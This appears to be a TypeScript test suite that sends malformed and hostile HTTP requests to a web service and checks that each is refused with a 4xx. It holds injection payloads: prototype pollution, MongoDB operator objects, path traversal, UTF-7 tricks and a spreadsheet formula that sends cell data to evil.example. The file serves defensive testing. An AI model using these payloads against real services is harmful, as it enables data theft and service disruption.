/**
 * Malformed and hostile HTTP: multipart bodies that are cut off or have no usable boundary, JSON
 * in odd charsets and encodings, addresses that do not decode, prototype and operator injection
 * in JSON bodies, odd query strings and ids, oversized headers. Each answers 4xx with a message,
 * never 500, and the service keeps answering. No worker runs and no upload is ever accepted here.
 */
import { gzipSync } from 'node:zlib';
import { startTestService, type TestService } from '../support/testService';
import {
  allCells,
  expectNoLeak,
  expectNothingQueued,
  expectPrototypesClean,
  expectRefusal,
  expectRefusedUpload,
  expectStillServing,
  FORMULA_CELL,
  GOOD_CSV,
  multipartBody,
  postRawUpload,
} from './hostileKit';

let service: TestService;
beforeAll(async () => {
  service = await startTestService();
  await expectNothingQueued(service);
});
afterAll(() => service.stop());

const B = 'hostile-boundary';
const wholeBody = () => multipartBody(B, [{ name: 'dryRun', body: 'true' }, { name: 'file', filename: 'users.csv', body: GOOD_CSV }]);
const groupNames = async () => ((await service.asAdmin().get('/api/groups')).body.items as Array<{ name: string }>).map((group) => group.name);

describe('malformed multipart uploads answer 400, never 500 (contract 5)', () => {
  test.each<[string, string, () => Buffer]>([
    ['has no boundary parameter', 'multipart/form-data', wholeBody],
    ['has an empty boundary', 'multipart/form-data; boundary=', wholeBody],
    ['names a boundary that never occurs in the body', 'multipart/form-data; boundary=not-the-one-used', wholeBody],
    ['is a garbage body under a valid boundary', `multipart/form-data; boundary=${B}`, () => Buffer.from('this is not a multipart body at all\r\n')],
    ['is cut off in the middle of the file (no closing boundary)', `multipart/form-data; boundary=${B}`, () => wholeBody().subarray(0, wholeBody().length - 30)],
    ['is cut off inside the part headers', `multipart/form-data; boundary=${B}`, () => Buffer.from(`--${B}\r\nContent-Disposition: form-data; name="fi`)],
  ])('When the multipart body %s, then it is a 400 saying how to send the file, and nothing is queued', async (_name, contentType, body) => {
    const response = await postRawUpload(service, contentType, body());
    await expectRefusedUpload(service, response, { status: 400, hint: /multipart|"file"/ });
  });
});

describe('JSON bodies the server cannot read answer 415 or 400 (contract 5)', () => {
  test('When a JSON body declares charset=utf-7, then it is a 415 naming UTF-8 and nothing is created', async () => {
    // "+AGI-" is "b" in UTF-7: a body that reads differently to a filter and to the server.
    const response = await service.asAdmin().post('/api/groups').set('Content-Type', 'application/json; charset=utf-7').send('{"name":"a+AGI-c"}');
    expectRefusal(response, { status: 415, hint: /UTF-8/i });
    expect(await groupNames()).not.toEqual(expect.arrayContaining(['abc']));
    expect(await groupNames()).not.toEqual(expect.arrayContaining(['a+AGI-c']));
    await expectStillServing(service);
  });

  test.each([['compress'], ['x-garbage']])('When a JSON body has Content-Encoding "%s", then it is a 415 naming the encodings accepted', async (encoding) => {
    const response = await service.asAdmin().post('/api/groups').set('Content-Type', 'application/json').set('Content-Encoding', encoding).send('{"name":"encoded"}');
    expectRefusal(response, { status: 415, hint: /gzip|encoding/i });
    expect(await groupNames()).not.toContain('encoded');
    await expectStillServing(service);
  });

  test.each<[string, Buffer]>([
    ['is not gzip at all', Buffer.from('{"name":"not gzip"}')],
    ['is gzip cut off half-way', gzipSync('{"name":"half gzip"}').subarray(0, 12)],
  ])('When a body declared gzip %s, then it is a 400 and nothing is created', async (_name, body) => {
    const before = await groupNames();
    const response = await service.asAdmin().post('/api/groups').set('Content-Type', 'application/json').set('Content-Encoding', 'gzip').send(body);
    expectRefusal(response, { status: 400 });
    expect(await groupNames()).toEqual(before);
    await expectStillServing(service);
  });

  test.each<[string, string]>([
    ['a bare null', 'null'],
    ['a bare string', '"Marketing"'],
    ['50,000 nested arrays', '['.repeat(50_000) + ']'.repeat(50_000)],
  ])('When the JSON body is %s, then it is a 400 and nothing is created', async (_name, text) => {
    const before = await groupNames();
    const response = await service.asAdmin().post('/api/groups').set('Content-Type', 'application/json').send(text);
    expectRefusal(response, { status: 400 });
    expect(await groupNames()).toEqual(before);
    await expectStillServing(service);
  });

  test('When a JSON body is larger than the API accepts, then it is a 413', async () => {
    const response = await service.asAdmin().post('/api/groups').send({ name: 'Big', padding: 'x'.repeat(200 * 1024) });
    expectRefusal(response, { status: 413, code: 'body_too_large' });
    await expectStillServing(service);
  });
});

describe('addresses that do not decode answer 400 about the address (contract 5)', () => {
  test.each<[string, 'admin' | 'anonymous']>([
    ['/api/imports/%zz', 'admin'],
    ['/api/imports/%E0%A4%A/errors.csv', 'admin'],
    ['/invite/%zz', 'anonymous'],
  ])('When GET %s has a bad percent-encoding, then it is a 400 about the address, not about JSON', async (path, who) => {
    const response = await (who === 'admin' ? service.asAdmin() : service.anonymous()).get(path);
    expect(response.status).toBe(400);
    expect(response.text).not.toMatch(/JSON/);
    expect(response.text).toMatch(/address|URL|path|link|percent|encod/i);
    expectNoLeak(response.text);
    await expectStillServing(service);
  });
});

describe('prototype and operator injection in JSON bodies', () => {
  test('When a group body hides its name under __proto__, then it is a 400 and no prototype is touched', async () => {
    const response = await service.asAdmin().post('/api/groups').set('Content-Type', 'application/json').send('{"__proto__":{"name":"Polluted","polluted":true}}');
    expectRefusal(response, { status: 400, code: 'invalid_group', hint: /name/ });
    expectPrototypesClean();
    expect(await groupNames()).not.toContain('Polluted');
  });

  test('When a group body carries constructor.prototype, then only the name is used and no prototype is touched', async () => {
    const response = await service.asAdmin().post('/api/groups').set('Content-Type', 'application/json').send('{"name":"Proto safe","constructor":{"prototype":{"polluted":true}}}');
    expect(response.status).toBe(201);
    expect(response.body).toEqual({ id: expect.any(String), name: 'Proto safe' });
    expectPrototypesClean();
  });

  test.each<[string, string, object, string, RegExp]>([
    ['a group name that is a MongoDB operator object', '/api/groups', { name: { $gt: '' } }, 'invalid_group', /name/],
    ['a group name that smuggles a second group ("Admin; Superadmin")', '/api/groups', { name: 'Admin; Superadmin' }, 'invalid_group', /";"/],
    ['a custom field key that is a MongoDB operator object', '/api/custom-fields', { key: { $ne: null }, label: 'Team' }, 'invalid_custom_field', /key must/],
    ['a custom field key with a dot path', '/api/custom-fields', { key: 'a.b', label: 'Dotted' }, 'invalid_custom_field', /key must/],
    ['a retry body whose "only" is an operator object', '/api/imports/65a000000000000000000000/retry', { only: { $ne: null } }, 'invalid_retry', /"only": "failed"/],
  ])('When the body has %s, then it is a 400 naming the rule', async (_name, path, body, code, hint) => {
    const response = await service.asAdmin().post(path).send(body);
    expectRefusal(response, { status: 400, code, hint });
    expectPrototypesClean();
    await expectStillServing(service);
  });
});

describe('custom field keys that name object internals are refused (contract 2)', () => {
  // Only `constructor` is a well-formed key (lower-case, starting with a letter); the others
  // already fail the key's form, which is refused as firmly.
  test.each([
    ['constructor', 'reserved_custom_field_key', /reserved|another/],
    ['toString', 'invalid_custom_field', /lower-case/],
    ['__proto__', 'invalid_custom_field', /lower-case/],
    ['hasOwnProperty', 'invalid_custom_field', /lower-case/],
  ])('When an admin creates a custom field with the key "%s", then it is a 400 %s and no field exists', async (key, code, hint) => {
    const response = await service.asAdmin().post('/api/custom-fields').send({ key, label: `Field ${key}` });
    expectRefusal(response, { status: 400, code, hint });
    const fields = (await service.asAdmin().get('/api/custom-fields')).body.items as Array<{ key: string }>;
    expect(fields.map((field) => field.key)).not.toContain(key);
    expectPrototypesClean();
  });
});

describe('formula injection through directory names', () => {
  // Exports put a \' before any cell Excel would run as a formula; the header row is cells too.
  test('When a custom field is labelled like a spreadsheet formula, then it is refused, or the export header does not run it', async () => {
    const label = '=HYPERLINK("http://evil.example/?"&A2,"Open")';
    const created = await service.asAdmin().post('/api/custom-fields').send({ key: 'formula_label', label });
    if (created.status !== 201) {
      expectRefusal(created, { status: 400, hint: /label/i });
      return;
    }
    const exported = await service.asAdmin().get('/api/users/export.csv').buffer(true).parse((res, done) => {
      let text = '';
      res.on('data', (part: Buffer) => (text += part.toString('utf8')));
      res.on('end', () => done(null, text));
    });
    const header = allCells(String(exported.body).split('\r\n')[0]);
    expect(header.filter((cell) => FORMULA_CELL.test(cell))).toEqual([]);
  });
});

describe('query strings and ids', () => {
  test.each([
    ['/api/imports?limit=0', 'invalid_limit'],
    ['/api/imports?limit=1e3', 'invalid_limit'],
    ['/api/imports?limit=1&limit=2', 'invalid_limit'],
    ['/api/imports?cursor=not-an-id', 'invalid_cursor'],
    ['/api/imports?cursor=65a000000000000000000000&cursor=65a000000000000000000001', 'invalid_cursor'],
  ])('When GET %s is asked, then it is a 400 (%s) that says what the parameter takes', async (path, code) => {
    expectRefusal(await service.asSupport().get(path), { status: 400, code, hint: /limit must|cursor must/ });
  });

  test.each<[string, string]>([
    ['get', '/api/imports/not-an-object-id'],
    ['get', `/api/imports/${encodeURIComponent('{"$gt":""}')}`],
    ['get', '/api/imports/65a000000000000000000000%00'],
    ['get', `/api/imports/${encodeURIComponent('ééééééééééé1')}/errors.csv`],
    ['post', '/api/imports/aaaaaaaaaaaa/cancel'],
    ['delete', '/api/groups/..%2F..%2Fimports'],
    ['post', `/api/users/${encodeURIComponent('{"$ne":null}')}/invite`],
  ])('When %s %s names an id that is not an ObjectId, then it is a 404, not a 500', async (method, path) => {
    const agent = service.asAdmin();
    const response = await (method === 'get' ? agent.get(path) : method === 'post' ? agent.post(path) : agent.delete(path));
    expectRefusal(response, { status: 404, code: 'not_found', hint: /not found/ });
    await expectStillServing(service);
  });

  test.each<[string, number, string]>([
    ['..%2F..%2Fusers', 400, 'invalid_custom_field_key'],
    [encodeURIComponent('{"$ne":null}'), 400, 'invalid_custom_field_key'],
    ['team.name', 400, 'invalid_custom_field_key'],
    ['constructor', 404, 'not_found'],
  ])('When DELETE /api/custom-fields/%s names a hostile or unknown key, then it is a %i that says how to list the fields', async (key, status, code) => {
    const response = await service.asAdmin().delete(`/api/custom-fields/${key}`);
    expectRefusal(response, { status, code, hint: /GET \/api\/custom-fields|not a custom field key/ });
    expectPrototypesClean();
    await expectStillServing(service);
  });

  test('When a request carries a 20 KB header, then it is refused with 431 and the service keeps answering', async () => {
    const response = await service.asAdmin().get('/api/me').set('X-Padding', 'a'.repeat(20 * 1024));
    expect(response.status).toBe(431);
    expectNoLeak(response.text);
    await expectStillServing(service);
  });
});
